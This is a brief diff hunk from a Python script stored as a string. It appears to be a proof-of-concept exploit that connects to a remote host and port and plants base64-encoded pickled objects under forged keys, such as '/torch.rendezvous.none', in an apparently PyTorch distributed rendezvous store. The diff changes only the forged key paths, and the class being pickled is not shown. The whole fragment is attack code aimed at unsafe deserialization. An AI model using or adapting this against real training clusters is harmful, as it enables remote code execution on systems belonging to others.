@@ -63,8 +63,8 @@ def put(key, value):
 
 with socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=30) as store:
     pickled = base64.b64encode(pickle.dumps(Ran()))
-    forged = put(b"/torch.rendezvous.none", pickled) + put(b"/none/paraplan/news/1", pickled)
-    store.sendall(VALIDATE + forged + b"\\4" + word(b"/none/paraplan/news") + struct.pack("<q", 1))
+    forged = put(b"/torch.rendezvous.none", pickled) + put(b"/none/1/paraplan/news/1", pickled)
+    store.sendall(VALIDATE + forged + b"\\4" + word(b"/none/1/paraplan/news") + struct.pack("<q", 1))
     print("answered", len(store.recv(8)))
 """
 
